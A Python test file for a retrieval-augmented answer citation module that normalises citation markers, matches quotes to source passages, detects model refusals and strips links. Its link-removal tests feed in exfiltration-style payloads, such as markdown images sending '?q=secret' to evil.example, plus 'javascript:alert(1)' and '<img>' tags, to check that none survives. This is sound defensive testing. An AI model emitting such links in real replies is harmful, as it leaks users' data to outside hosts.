"""From replies to cited answers: every marker names a passage, every quote stands in it, no link leads out."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.citations import best_span, cite, find_markers, rarity, uncited_sentences, without_links
from rag.types import Answer, Candidate, Chunk, PageSpan, RankedChunk

REFUNDS = (
    "Returns and refunds\n"
    "You may return an item within seven days from receipt. The item must be unused.\n"
    "Refunds are paid to the original card within five working days."
)
POSTAGE = "Return postage is free for faulty items. For all other returns the customer pays 4.50 euros."
GIFTS = "Gift cards can't be returned. They stay valid for three years."


def passage(text: str, number: int = 1, *, page_break_at: int | None = None, title: str = "Shop terms") -> RankedChunk:
    spans = (PageSpan(number, 0, len(text)),)
    if page_break_at is not None:  # the line feed at that place joins two pages
        spans = (PageSpan(number, 100, 100 + page_break_at), PageSpan(number + 1, 0, len(text) - page_break_at - 1))
    chunk = Chunk(f"chunk-{number}", "doc", title, None, text, spans, number - 1, len(text.split()))
    return RankedChunk(Candidate(chunk, number, 1 / number), number, 0.9)


PASSAGES = [passage(REFUNDS, 1), passage(POSTAGE, 2), passage(GIFTS, 3)]


def answer(reply: str) -> Answer:
    outcome = cite(reply, PASSAGES)
    assert isinstance(outcome, Answer), outcome
    return outcome


def test_each_citation_quotes_the_sentence_that_the_statement_rests_on() -> None:
    outcome = answer("Items can be returned for seven days after receipt [1]. You get gift cards for three years [3].")
    assert [(citation.marker, citation.quote, citation.page) for citation in outcome.citations] == [
        (1, "You may return an item within seven days from receipt.", 1),
        (3, "They stay valid for three years.", 3),
    ]
    assert outcome.kind == "written"


def test_one_passage_can_vouch_for_two_statements_with_two_quotes() -> None:
    outcome = answer("You have seven days [1]. The other returns cost 4.50 [2]. The card is refunded in five days [1].")
    assert [(citation.marker, citation.quote.split()[0]) for citation in outcome.citations] == [
        (1, "You"),
        (1, "Refunds"),
        (2, "For"),
    ]


def test_clauses_of_one_sentence_are_quoted_apart() -> None:
    outcome = answer("An item may go back within seven days [1], while gift cards can't be returned at all [3].")
    assert [citation.quote for citation in outcome.citations] == [
        "You may return an item within seven days from receipt.",
        "Gift cards can't be returned.",
    ]


def test_two_neighbouring_sentences_are_quoted_where_the_statement_needs_both() -> None:
    outcome = answer("Gift cards can't be returned, and they stay valid for three years [3].")
    assert [citation.quote for citation in outcome.citations] == [GIFTS]


def test_the_page_is_the_one_on_which_the_quote_starts() -> None:
    text = "The cover begins at once.\nThe waiting period is 180 days."
    outcome = cite("It is 180 days [1].", [passage(text, 7, page_break_at=text.index("\n"))])
    assert isinstance(outcome, Answer)
    assert [(citation.page, citation.quote) for citation in outcome.citations] == [
        (8, "The waiting period is 180 days.")
    ]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("A fact [1].", "A fact [1]."),
        ("A fact [1, 2].", "A fact [1][2]."),
        ("A fact [1,2,3].", "A fact [1][2][3]."),
        ("A fact [1][2].", "A fact [1][2]."),
        ("A fact [1-3].", "A fact [1][2][3]."),
        ("A fact [1–2].", "A fact [1][2]."),
        ("A fact [1 and 3].", "A fact [1][3]."),
        ("A fact [1; 3].", "A fact [1][3]."),
        ("A fact【2】.", "A fact[2]."),
        ("A fact【2†source】.", "A fact[2]."),
        ("A fact ［2］.", "A fact [2]."),
        ("A fact [[2]].", "A fact [2]."),
        (r"A fact \[2\].", "A fact [2]."),
        ("A fact [^2].", "A fact [2]."),
        ("A fact [passage 2].", "A fact [2]."),
        ("A fact [Source 2, p. 14].", "A fact [2]."),
        ("A fact [2](https://evil.example/?q=x).", "A fact [2]."),
        ("A fact [0][2].", "A fact [2]."),
        ("A fact [2][99].", "A fact [2]."),
        ("A fact [2, 99].", "A fact [2]."),
        ("A fact [2]. In [2019] too.", "A fact [2]. In too."),
        ("A fact [2-1000000000].", "A fact [2]."),
        (f"A fact [2] [{'9' * 5000}].", "A fact [2]."),
        ("A fact [٢].", "A fact [2]."),
        ("```\nA fact [2].\n```", "A fact [2]."),
        ("<think>Is it [3]? NO_ANSWER?</think>\nA fact [2].", "A fact [2]."),
    ],
)
def test_markers_come_in_many_forms_and_leave_in_one(written: str, shown: str) -> None:
    assert answer(written).text == shown


@pytest.mark.parametrize(
    "reply",
    ["Refunds take seven days.", "Refunds take seven days [0] [99].", "See `prices[1]`.", "", "[]", "[x] (1) 1."],
)
def test_a_reply_without_a_valid_marker_is_uncited(reply: str) -> None:
    assert cite(reply, PASSAGES) == "uncited"


@pytest.mark.parametrize(
    "reply",
    [
        "NO_ANSWER",
        "no_answer.",
        r"**NO\_ANSWER**",
        "No answer.",
        "The passages tell nothing about it. NO_ANSWER",
        "The passages do not contain information about the price of a dishwasher.",
        "The provided passages don’t mention dental cover [1].",
        "I'm sorry, but I cannot answer this from the passages.",
        "I’m sorry. The context does not say who pays for it.",
        "Unfortunately, the documents do not specify a limit.",
        "I could not find anything about parking.",
        "There is no information about parking in the passages.",
        "Based on the passages, the given context does not provide the opening hours.",
    ],
)
def test_a_plain_refusal_is_a_refusal_of_the_model(reply: str) -> None:
    assert cite(reply, PASSAGES) == "model_declined"


@pytest.mark.parametrize(
    "reply",
    [
        "The policy does not cover dental care [1].",
        "The documents do not have to be signed [1].",
        "The information does not include your card number [2].",
        "You cannot return gift cards [3].",
        "There is no answer period [1].",
        "Items go back within seven days [1]. The passages do not say who pays duty.",
    ],
)
def test_an_answer_in_the_negative_is_an_answer(reply: str) -> None:
    assert answer(reply).text == reply


def test_statements_without_a_marker_stay_and_can_be_found() -> None:
    text = answer("## Returns\nYou can:\n- return items within seven days [1]\n- burn them\n\nSo be quick!").text
    assert "burn them" in text
    assert uncited_sentences(text) == ("- burn them", "So be quick!")


def test_a_marker_on_a_line_of_its_own_belongs_to_the_statement_before() -> None:
    text = answer("They stay valid for three years.\n[3]").text
    assert uncited_sentences(text) == ()
    assert cite(text, PASSAGES).citations[0].quote == "They stay valid for three years."  # type: ignore[union-attr]  # answer() checked it


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/a.png?q=secret)",
        "![a[b]c](http://evil.example/a.png)",
        "![x][1]\n\n[1]: http://evil.example/a.png",
        "[click](http://evil.example)",
        "[click]( <http://evil.example/a b> 'title')",
        "[a ![b](http://evil.example/b.png) c](http://evil.example)",
        "[click][ref]\n\n[ref]:\n  http://evil.example",
        "[click](javascript:alert(1))",
        "<http://evil.example>",
        "http://evil.example/?q=secret",
        "ftp://evil.example and WWW.EVIL.EXAMPLE/x",
        "<img src=http://evil.example/a.png>",
        "[99](//evil.example)",
        "【99】(//evil.example)",
        "[1]【99】(//evil.example)",
        "[1]: //evil.example",
    ],
)
def test_no_link_and_no_image_survives(text: str) -> None:
    shown = answer(f"A fact [1].\n\n{text}\n").text
    assert not re.search(r"\]\(|!\[|<img|<http|://|www\.|^\s*\[[^\]]*\]:", shown, re.IGNORECASE | re.MULTILINE)


def test_an_address_that_stands_in_a_passage_stays_as_text() -> None:
    passages = [passage("Apply at https://shop.example/returns within seven days.")]
    outcome = cite("Apply at [the form](https://shop.example/returns) or https://shop.example/returns [1].", passages)
    assert isinstance(outcome, Answer)
    assert outcome.text == "Apply at the form or https://shop.example/returns [1]."
    assert without_links("https://shop.example/returns", []) == "(address removed)"


def test_an_answer_in_another_language_quotes_the_start_of_the_passage() -> None:
    weights = rarity([POSTAGE])
    assert best_span("払い戻し", POSTAGE, weights) == (0, POSTAGE.index(" For"))
    assert best_span("anything", "", weights) is None


PIECES = st.sampled_from(
    [
        "[1]",
        "[2]",
        "[0]",
        "[99]",
        "[1, 7]",
        "[2-9]",
        "【3】",
        "[",
        "]",
        "](",
        "![",
        "[^",
        "(",
        ")",
        "http://a.b",
        "```",
        "`",
    ]
    + ["\n", " ", ". ", "Refunds take seven days", "gift cards", "<think>", "</think>", "[1]:", "†", "\\", "١", "[٣]"]
)
TEXTS = st.one_of(st.text(max_size=80), st.lists(PIECES, max_size=25).map("".join))
PASSAGE_TEXTS = st.lists(st.one_of(st.sampled_from([REFUNDS, POSTAGE, GIFTS]), st.text(max_size=60)), max_size=4)


@given(TEXTS, PASSAGE_TEXTS)
def test_whatever_a_model_writes(reply: str, texts: list[str]) -> None:
    passages = [passage(text, number) for number, text in enumerate(texts, start=1)]
    outcome = cite(reply, passages)
    if not isinstance(outcome, Answer):
        assert outcome in ("uncited", "model_declined")
        return
    assert outcome.citations
    named = [number for marker in find_markers(outcome.text) for number in marker.numbers]
    assert all(1 <= number <= len(passages) for number in named)
    assert {citation.marker for citation in outcome.citations} <= set(named)
    for citation in outcome.citations:
        assert citation.chunk is passages[citation.marker - 1].chunk
        assert citation.quote
        assert citation.quote in " ".join(citation.chunk.text.split())
        assert citation.page == citation.marker
    order = list(dict.fromkeys(citation.marker for citation in outcome.citations))
    assert order == [number for number in dict.fromkeys(named) if number in order]
    assert "](" not in outcome.text
    assert "![" not in outcome.text
    uncited_sentences(outcome.text)


@given(TEXTS)
def test_removing_links_needs_no_second_pass(text: str) -> None:
    once = without_links(text)
    assert "](" not in once
    assert "![" not in once
    assert without_links(once) == once
